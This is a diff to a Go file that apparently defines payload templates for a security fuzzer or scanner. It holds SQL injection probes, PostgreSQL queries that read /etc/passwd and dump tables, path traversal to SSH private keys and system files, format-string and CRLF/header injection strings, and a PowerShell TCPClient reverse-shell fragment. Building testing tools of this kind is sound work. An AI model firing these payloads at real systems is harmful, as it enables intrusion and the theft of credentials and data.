@@ -26,7 +26,6 @@ func moreRules() source {
 1~«n»)
 1~«n» and 1=1
 1~«n» and 1=2
-1~«n»-0
 1~«n»-(«n»-«n»)
 1~«n»/1
 1~«n»*1
@@ -43,7 +42,6 @@ func moreRules() source {
 1~'=0--+
 1~'=''or'
 1~'^'
-1~«n»e0
 1~«n»;--
 1~«bt»`},
 		{"pgf", "version()\ncurrent_user\ncurrent_database()\n(select string_agg(«col»,',') from «tbl»)\npg_read_file('/etc/passwd')\nquery_to_xml('select * from «tbl»',true,true,'')\ninet_server_addr()\ncurrent_setting('data_directory')\n(select usename from pg_user limit 1)"},
@@ -323,8 +321,7 @@ func moreRules() source {
 1~C:%5cboot.ini
 1~C%3a%2fWindows%2fSystem32%2fdrivers%2fetc%2fhosts
 1~~root/.bashrc
-1~~/.ssh/id_rsa
-1~..`},
+1~~/.ssh/id_rsa`},
 		{"up2", "4~../../\n3~../../../\n2~../\n2~../../../../../../\n1~..%2f..%2f\n1~..\\\\..\\\\\n1~%2e%2e%2f%2e%2e%2f\n1~..%5c..%5c"},
 		// Commands on Windows, first probes, odd shells.
 		{"cmShort", `
@@ -580,15 +577,13 @@ $x=New-Object System.Net.Sockets.TCPClient('«chost»',«n4»)`},
 1~%s%s%s%s%n%n
 1~%x.%x.%x.%p
 1~«aaaa»
-1~-«big»«big»
-1~99999999999999999999
 1~%00%00%00
 1~to=«email»%0aBcc:«email»
 1~«email»%0d%0aBcc: «email»
 1~/admin/..;/
 1~X%0d%0a%0d%0a<script>«js»</script>
 1~GET / HTTP/1.1%0d%0aHost: «chost»`},
-		{"aaaa", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA«aaa2»\n«big»«big»«big»«big»«big»"},
+		{"aaaa", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA«aaa2»"},
 		{"aaa2", "∅\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA«aaa2»"},
 		{"oxInner", `
 2~http://«inhost»:«n4»/«slugnoun»
